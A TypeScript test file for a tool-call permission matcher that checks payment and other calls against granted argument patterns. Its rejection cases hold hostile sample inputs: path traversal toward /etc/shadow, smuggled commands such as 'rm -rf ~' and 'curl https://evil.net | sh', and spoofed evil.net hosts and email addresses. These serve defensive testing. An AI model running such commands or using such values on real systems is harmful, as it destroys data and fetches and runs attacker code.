import type { Call } from '@aegis/contracts/call';
import type { ArgumentPattern, CallPattern } from '@aegis/contracts/grants';
import { parseJson } from '@aegis/kit/json';
import { describe, expect, it } from 'vitest';
import { matchesPattern, patternOf, whyNotCovered } from './call-pattern.ts';

const call = (more: Partial<Call> = {}): Call => ({ tool: 'bank.pay', principal: 'me', ...more });
const pattern = (more: Partial<CallPattern> = {}): CallPattern => ({ tool: 'bank.pay', ...more });
/** Whether a pattern of the argument `to` covers arguments. */
const covers = (one: ArgumentPattern, args: Record<string, unknown>, name = 'to'): boolean =>
  matchesPattern(pattern({ args: { [name]: one } }), call({ args }));
const coversUnder = (name: string, one: ArgumentPattern, value: unknown): boolean =>
  covers(one, { [name]: value }, name);
/** Arguments as they come in: parsed, so that a key may be any text. */
const parsed = (text: string) => JSON.parse(text) as Record<string, unknown>;

const inPublic = (to: string): boolean => covers({ starts_with: '/srv/public/' }, { to });

describe('a text that begins with a folder', () => {
  it.each(['/srv/public/a.txt', '/srv/public/..a', '/srv/public/a..b/c'])('%s is covered', (to) => {
    expect(inPublic(to)).toBe(true);
  });

  it.each([
    '/srv/public/../../etc/shadow',
    '/srv/public/..',
    '/srv/public/a/../../../etc',
    '/srv/public/..\\..\\etc',
    '/srv/public/%2e%2e/%2e%2e/etc',
    '/srv/public/.%2E/etc',
    '/srv/public/%252e%252e/etc',
    '/srv/public/a%2f..%2fb',
    '/srv/public/a\0.png',
  ])('%j leads out of it, or may, and is not', (to) => {
    expect(inPublic(to)).toBe(false);
  });
});

describe('a pattern of an argument', () => {
  it.each<[ArgumentPattern, unknown[], unknown[]]>([
    [{ equals: 1 }, [1], ['1', 1.5, true, null, [1]]],
    [{ equals: null }, [null], [0, '', false]],
    [{ equals: { a: [1, { b: 2 }] } }, [{ a: [1, { b: 2 }] }], [{ a: [1, { b: 3 }] }, { a: [1] }, {}]],
    [{ equals: { a: 1, b: 2 } }, [{ b: 2, a: 1 }], [{ a: 1 }, { a: 1, b: 2, c: 3 }]],
    [{ at_most: 5 }, [5, 0, 1], [-1, 0.5, 5.000_001, '5', null, [5], true]],
    [{ at_most: 5.5 }, [5.5, 0, 0.5], [-0.1, 5.6]],
    [{ at_most: -5 }, [-5], [-6, 0]],
    [{ at_least: 2, at_most: 5 }, [2, 5], [1, 6, 2.5, '3', null]],
    [
      { path_within: '/srv/app' },
      ['/srv/app', '/srv/app/a'],
      ['/srv/app-x', '/srv/app/../x', 5, ['/srv/app/a']],
    ],
    [{ path_within: 'srv' }, [], ['srv', '/srv']],
    [{ host_in: 'example.com' }, ['https://example.com/a'], ['https://example.com.evil.net/', 'example.com']],
    [{ url_within: 'https://example.com/a' }, ['https://example.com/a/b'], ['https://example.com/ab']],
    [{ email_domain_in: 'example.com' }, ['a@example.com'], ['e@evil.net, a@example.com', ['a@example.com']]],
    [{ any: true }, [1, null, { deep: [] }], []],
  ])('%j means what it says, and nothing else', (one, covered, others) => {
    for (const value of covered) expect([value, covers(one, { to: value })]).toEqual([value, true]);
    for (const value of others) expect([value, covers(one, { to: value })]).toEqual([value, false]);
  });

  it.each<[string, string[], string[]]>([
    ['{"equals":1}', ['1', '1.0', '1e0'], ['1.0000000000000000001', '-1']],
    ['{"equals":12345678901234567890}', ['12345678901234567890.0'], ['12345678901234567891', '1e400']],
    ['{"equals":[9007199254740992]}', ['[9007199254740992]'], ['[9007199254740993]']],
    [
      '{"at_least":0,"at_most":1e+21}',
      ['12345678901234567891', '5.0', '1e21', '1000000000000000000000'],
      ['1000000000000000000001', '5.5', '0.5', '-1', '1e400', '1e99999999999999999999', '-1e-400'],
    ],
    ['{"at_least":0.5,"at_most":1}', ['0.50000000000000000001'], ['0.49999999999999999999']],
  ])('%s covers numbers to the last digit', (one, covered, others) => {
    const says = (value: string) => covers(parseJson(one) as ArgumentPattern, { to: parseJson(value) });
    for (const value of covered) expect([value, says(value)]).toEqual([value, true]);
    for (const value of others) expect([value, says(value)]).toEqual([value, false]);
  });

  it.each<[ArgumentPattern, boolean]>([
    [{ any: true }, true],
    [{ equals: undefined }, false],
    [{ at_most: 5 }, false],
    [{ starts_with: 'a' }, false],
  ])('%j covers a call without it: %s', (one, covered) => {
    expect(covers(one, {})).toBe(covered);
    expect(matchesPattern(pattern({ args: { to: one } }), call())).toBe(covered);
  });
});

describe('a beginning, as grants of before have it,', () => {
  it.each<[string, string, string[], string[]]>([
    [
      'note',
      'DE',
      ['DE1', 'DE'],
      ['de1', ' DE', 'D', 'DE; rm -rf ~', 'DE\nx', 'DE https://evil.net', 'D\u200bE'],
    ],
    ['command', 'git ', ['git '], ['git status', 'git status; curl https://evil.net | sh']],
    ['x', 'git status', ['git status'], ['git status; rm -rf ~']],
    ['url', 'https://api.example.com', ['https://api.example.com'], ['https://api.example.com.evil.net/']],
    [
      'url',
      'https://api.example.com/',
      ['https://api.example.com/v1'],
      ['https://api.example.com@evil.net/'],
    ],
    ['to', 'ada', ['ada'], ['ada@evil.net', 'ada, eve@evil.net']],
    ['path', '/srv/app', ['/srv/app', '/srv/app/a'], ['/srv/app-secrets/key', '/srv/app/..;/x']],
  ])('of %s, %j, covers what is safe of it', (name, start, covered, others) => {
    for (const value of covered)
      expect([value, coversUnder(name, { starts_with: start }, value)]).toEqual([value, true]);
    for (const value of others)
      expect([value, coversUnder(name, { starts_with: start }, value)]).toEqual([value, false]);
    for (const value of [1, null, [start]])
      expect(coversUnder(name, { starts_with: start }, value)).toBe(false);
  });
});

describe('a call is not covered', () => {
  it.each<[string, CallPattern, Call]>([
    ['with one argument more', pattern({ args: { to: { any: true } } }), call({ args: { to: 1, cc: 2 } })],
    ['with arguments where none are named', pattern(), call({ args: { to: 1 } })],
    ['of another tool', pattern(), call({ tool: 'bank.Pay' })],
    ['of a server where none is named', pattern(), call({ server: 'bank' })],
    ['of no server where one is named', pattern({ server: 'bank' }), call()],
    ['with an op where none is named', pattern(), call({ op: 'refund' })],
    ['of another definition', pattern({ definition_digest: 'a' }), call({ definition_digest: 'b' })],
    ['over the amount', pattern({ max_amount_cents: 100 }), call({ amount_cents: 101 })],
    ['without an amount where one is named', pattern({ max_amount_cents: 100 }), call()],
    ['with an amount where none is named', pattern(), call({ amount_cents: 0 })],
  ])('%s', (_, given, of) => {
    expect(matchesPattern(given, of)).toBe(false);
  });
});

describe('names that every object has', () => {
  const odd = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];

  it.each(odd)('%s as an argument is one more argument', (name) => {
    const args = parsed(`{"to":1,${JSON.stringify(name)}:{"x":1}}`);
    expect(matchesPattern(pattern({ args: { to: { any: true } } }), call({ args }))).toBe(false);
    expect(matchesPattern(pattern({ args: {} }), call({ args: parsed(`{"${name}":1}`) }))).toBe(false);
  });

  it.each(odd)('%s is compared where the pattern names it, and is not there where it is not', (name) => {
    const own = patternOf(call({ args: parsed(`{"${name}":{"x":1}}`) }));
    expect(matchesPattern(own, call({ args: parsed(`{"${name}":{"x":1}}`) }))).toBe(true);
    expect(matchesPattern(own, call({ args: parsed(`{"${name}":{"x":2}}`) }))).toBe(false);
    expect(matchesPattern(own, call({ args: {} }))).toBe(false);
  });
});

describe('the pattern of a call', () => {
  const full = call({
    server: 'bank',
    definition_digest: `sha256:${'a'.repeat(64)}`,
    op: 'payment',
    amount_cents: 100,
    args: { to: 'ACME', deep: { list: [1, null] } },
  });

  it('covers that call, up to its amount, and says nothing of what the call does not have', () => {
    expect(matchesPattern(patternOf(full), full)).toBe(true);
    expect(matchesPattern(patternOf(full), { ...full, amount_cents: 1 })).toBe(true);
    expect(patternOf(call())).toEqual({ tool: 'bank.pay' });
  });

  it.each<[string, Partial<Call>]>([
    ['the tool', { tool: 'bank.pay2' }],
    ['the server', { server: 'bank2' }],
    ['the definition', { definition_digest: `sha256:${'b'.repeat(64)}` }],
    ['the op', { op: 'refund' }],
    ['the amount', { amount_cents: 101 }],
    ['an argument', { args: { to: 'ACME2', deep: { list: [1, null] } } }],
    ['something deep in an argument', { args: { to: 'ACME', deep: { list: [1, 2] } } }],
    ['one argument less', { args: { to: 'ACME' } }],
  ])('covers no call that differs in %s', (_, differing) => {
    expect(matchesPattern(patternOf(full), { ...full, ...differing })).toBe(false);
  });
});

describe('what is sent besides the arguments', () => {
  const input = { _meta: { 'com.example/tenant': 'test' } };

  it('is covered exactly as it was, and only where the pattern speaks of it', () => {
    const one = patternOf(call({ input }));
    expect(matchesPattern(one, call({ input }))).toBe(true);
    for (const other of [
      undefined,
      {},
      { _meta: { 'com.example/tenant': 'prod' } },
      { ...input, task: {} },
    ]) {
      expect(matchesPattern(one, call({ input: other }))).toBe(false);
    }
    expect(matchesPattern(patternOf(call()), call({ input }))).toBe(false);
  });
});

const is = (equals: unknown): ArgumentPattern => ({ equals });

describe('what keeps a call out of a pattern', () => {
  it.each<[Partial<CallPattern>, Partial<Call>, string]>([
    [{ tool: 'bank.*' }, {}, 'pattern.tool is "bank.*", and the call\'s is "bank.pay"'],
    [{ op: 'pay' }, {}, 'pattern.op is "pay", and the call\'s is none'],
    [{}, { amount_cents: 5 }, "pattern.max_amount_cents is none, and the call's amount is 5"],
    [
      { max_amount_cents: 4 },
      { amount_cents: 5 },
      "pattern.max_amount_cents is 4, and the call's amount is 5",
    ],
    [{}, { input: { a: 1 } }, 'pattern.input is not what the call sends besides its arguments'],
    [
      { args: { to: { any: true } } },
      { args: { to: 'x', 'a note': 'y' } },
      'pattern.args."a note" is missing, and the call has it; {"any": true} covers whatever it is',
    ],
    [{ args: { to: is('x') } }, {}, 'pattern.args.to is of an argument that the call does not have'],
    [
      { args: { to: is('x'), n: { at_least: 0, at_most: 3 } } },
      { args: { to: 'x', n: 4 } },
      "pattern.args.n covers a whole number from 0 to 3, and the call's is not that",
    ],
    [{ args: { to: is('x') } }, { args: { to: 'x' } }, ''],
  ])('%j and a call with %j: %s', (of, more, why) => {
    expect(whyNotCovered(pattern(of), call(more)) ?? '').toBe(why);
  });
});
